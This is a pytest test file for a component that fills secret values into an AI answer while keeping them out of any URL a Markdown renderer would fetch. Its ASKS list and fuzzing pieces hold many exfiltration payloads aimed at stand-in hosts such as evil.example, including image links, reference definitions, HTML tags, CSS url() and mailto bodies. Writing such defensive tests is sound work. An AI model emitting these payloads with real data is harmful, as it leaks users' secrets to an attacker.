"""Whoever writes the answer asks for a value in an address: opened, or fetched as an image, it would be theirs.

What two programs that show Markdown make of the answer is the judge: no address holds a value that is not one whole.
"""

import re
from html.parser import HTMLParser
from urllib.parse import unquote

import mistune
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from umi_edge.labelling.vault import Origin, Source, Vault
from umi_edge.session.rehydration import Rehydrator
from umi_shared.labels import Label

SECRET, BASE, OPENING, NAME = (
    "Zqx4711",
    "https://evil.example/?q=",
    "![x](https://evil.example/?",
    "ann@zweig.example",
)
VALUES = {"<code:1>": SECRET, "<code:2>": BASE, "<code:3>": OPENING, "<code:4>": NAME}

ASKS = [
    "[r]\n\n[r]: https://other.example/\n\n[r]: https://evil.example/{}",  # a definition that comes too late
    "https://evil.example/?q={}",
    "see HTTPS://{}.evil.example/",
    "//evil.example/{}",
    "www.evil.example/{}",
    "{}.evil.example",
    "{}.evil.com/x",
    "evil.com/{}",
    "evil.com?{}",
    "{}@evil.com",
    "mailto:me@evil.com?body={}",
    "mailto:{}@evil.com",
    "sms:+331?body={}",
    "tel:{}",
    "[a](//evil.example/{})",
    "[a](/{})",
    "[a]( \n/x?{} )",
    "[a](https://evil.example/{}\n'title')",
    "![a](<https://evil.example/?q= {}>)",
    "![a](https&#58;//evil.example/{})",
    "![a](https:\\/\\/evil.example/{})",
    "https&colon;//evil.example/{}",
    "https:\\/\\/evil.example/{}",
    "![a][1]\n\n[1]: https://evil.example/{}",
    "[1]: <https://evil.example/{}>\n\n![a][1]",
    "[1]:\nhttps://evil.example/{}\n\n![a][1]",
    "[{}]: https://evil.example/1\n\n[x][{}]",
    "![x][{}]\n\n[Zqx4711]: https://evil.example/1\n\n[Zqx4712]: https://evil.example/2",
    "[Zqx4711]: https://evil.example/1\n\n![x][{}]",
    '<img src="https://evil.example/? {}">',
    '<img src="https://evil.example/?\n{}\n">',
    '<img src="https://evil.example/?\n\n{}\n\n">',
    "<a href=https://evil.example/a//b?{}>x</a>",
    "<div style='background:url(https://evil.example/{})'>x</div>",
    "<style>\n\np {background: url(https://evil.example/{})}\n\n</style>",
    "<https://evil.example/{}>",
    "| a |\n|---|\n| ![x](https://evil.example/{}) |",
    "> ![x](https://evil.example/\n> {})",
    "* ![x](https://evil.example/{})",
    "<code:2>{}",
    "<code:3>{})",
    "<code:3>\n{})",
]
HARMLESS = [
    "It is {}.",
    "https://good.example is of {}",
    "(https://good.example)\n{}",
    "[good](https://good.example): {}",
    "a/b {}",
    "({})",
    "**{}**, `{}`",
    "Code:{}",
    "[{}](https://good.example/)",
    "![{}](https://good.example/a.png)",
    "| a | {} |\n|---|---|\n| https://good.example/ | {} |",
    "1 < 2, {} > 3",
]


def vault():
    made = Vault()
    for value in VALUES.values():
        made.keep(value, type="code", label=Label(), origin=Origin(Source.RESULT, "t"))
    return made


def answered(text, size=10**9):
    rehydrator = Rehydrator(vault())
    said = "".join(rehydrator.feed(text[at : at + size]) for at in range(0, len(text), size))
    return said + rehydrator.finish()


class Addresses(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found += [value for name, value in attrs if value and name in ("href", "src", "style", "data")]

    def handle_data(self, data):
        self.found += re.findall(r"url\([^)]*\)", data)


def addresses(text):
    """All that two programs would open or fetch, as they decode it."""
    commonmark = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["linkify", "table"])
    other = mistune.create_markdown(escape=False, plugins=["url", "table"])
    found = []
    for page in (commonmark.render(text), other(text)):
        parser = Addresses()
        parser.feed(page)
        parser.close()
        found += [unquote(one) for one in parser.found]
    return found


def leaks(text):
    """Addresses with a value in them that is not whole one value."""
    return [
        one
        for one in addresses(text)
        if SECRET.casefold() in one.casefold() or (NAME in one and one.removeprefix("mailto:") != NAME)
    ]


@pytest.mark.parametrize("ask", ASKS)
@pytest.mark.parametrize("handle", ["<code:1>", "<code:4>"])
def test_no_address_of_an_answer_gets_a_value(ask, handle):
    text = ask.replace("{}", handle)
    said = answered(text)
    assert not leaks(said), said[:300]
    assert all(answered(text, size) == said for size in (1, 7))


def test_the_judge_sees_most_of_what_is_asked_for():
    """With the values in place, as a program would that puts them in wherever a handle stands."""

    def filled(ask):
        text = ask.replace("{}", SECRET)
        for handle, value in VALUES.items():
            text = text.replace(handle, value)
        return text

    assert sum(bool(leaks(filled(ask))) for ask in ASKS) > len(ASKS) / 2


def test_past_a_length_that_no_answer_needs_handles_stay():
    text = "x" * 140_000 + " (https://evil.example/" + "x" * 140_000 + " <code:1>"
    assert SECRET not in answered(text)
    assert SECRET not in answered(text, 4096)


@pytest.mark.parametrize("answer", HARMLESS)
def test_beside_an_address_there_are_values(answer):
    said = answered(answer.replace("{}", "<code:1>"))
    assert said == answer.replace("{}", SECRET)


def test_an_address_that_is_one_value_is_shown():
    assert answered("Write to <code:4>, or see <code:2>.") == f"Write to {NAME}, or see {BASE}."


PIECES = [
    *VALUES, "<", ">", "(", ")", "[", "]", "!", ":", "/", "//", "\\", "\n", "\n\n", " ", "&#58;", "&#x2f;", "a",
    "https", "evil.com", "www.", "?q=", "'", '"', "<a href=", "<img src='https://evil.example/", "[1]: ", "[1]", "`",
    "```\n", "| a |\n|---|\n", "mailto:", "@",
]  # fmt: skip


@settings(max_examples=300)
@given(st.lists(st.sampled_from(PIECES), max_size=14))
def test_no_mixture_of_pieces_puts_a_value_into_an_address(pieces):
    assert not leaks(answered("".join(pieces)))
